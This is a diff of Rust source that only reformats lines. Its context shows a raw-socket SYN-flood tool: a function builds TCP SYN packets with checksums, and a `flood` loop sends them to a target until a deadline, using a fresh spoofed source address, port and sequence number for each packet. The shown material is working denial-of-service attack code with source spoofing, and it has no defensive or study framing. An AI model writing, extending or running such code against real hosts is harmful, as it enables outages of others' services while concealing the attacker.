@@ -64,13 +64,10 @@ pub fn syn_packet(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16, seq: u32
     t[13] = 0x02; // SYN
     t[14..16].copy_from_slice(&64240u16.to_be_bytes());
     t[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
-    let pseudo: u32 = [&src.octets()[..], &dst.octets()[..]]
-        .concat()
-        .chunks(2)
-        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
-        .sum::<u32>()
-        + 6
-        + 24;
+    let pseudo: u32 =
+        [&src.octets()[..], &dst.octets()[..]].concat().chunks(2).map(|w| u32::from(u16::from_be_bytes([w[0], w[1]]))).sum::<u32>()
+            + 6
+            + 24;
     let c = checksum(t, pseudo);
     t[16..18].copy_from_slice(&c.to_be_bytes());
     p
@@ -174,7 +171,14 @@ pub fn flood(spec: &SynSpec, dst: std::net::SocketAddrV4, seed: u64, deadline: I
             let (src, sport, isn) = spoof.draw();
             let p = syn_packet(src, *dst.ip(), sport, dst.port(), isn, sport ^ 0x5a5a);
             let n = unsafe {
-                libc::sendto(fd, p.as_ptr().cast(), p.len(), 0, (&sa as *const libc::sockaddr_ll).cast(), std::mem::size_of::<libc::sockaddr_ll>() as u32)
+                libc::sendto(
+                    fd,
+                    p.as_ptr().cast(),
+                    p.len(),
+                    0,
+                    (&sa as *const libc::sockaddr_ll).cast(),
+                    std::mem::size_of::<libc::sockaddr_ll>() as u32,
+                )
             };
             if n == p.len() as isize {
                 out.sent += 1;
